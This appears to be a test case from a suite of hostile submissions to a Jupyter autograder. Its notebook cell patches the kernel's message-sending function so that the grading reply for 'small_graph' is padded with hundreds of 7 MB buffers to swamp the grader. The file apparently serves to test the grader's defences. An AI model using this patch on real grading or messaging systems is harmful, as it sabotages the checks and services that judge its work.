"""A reply of hundreds of frames, each as large as is allowed: zmq gathers them all before the judge can say no."""

ENTRY, FAMILY = 25, "A"
EXPECTED = {"test_small_graph": "output"}
CELLS = {
    "small_graph": """
import numpy as np


def small_graph(x, y, z):
    return 0.0, x, y, z


def forge():
    kernel = get_ipython().kernel
    session, honest = kernel.session, kernel.session.send

    def send(stream, kind, content=None, parent=None, ident=None, buffers=None, **more):
        asked = ((parent or {}).get("content", {}).get("data") or {}).get("dict", [[0, ""]])
        if kind == "autograder_reply" and asked[0][1] == "small_graph":
            buffers = [bytes(7 << 20)] * 300
        return honest(stream, kind, content, parent, ident=ident, buffers=buffers, **more)

    session.send = send


forge()
""",
}
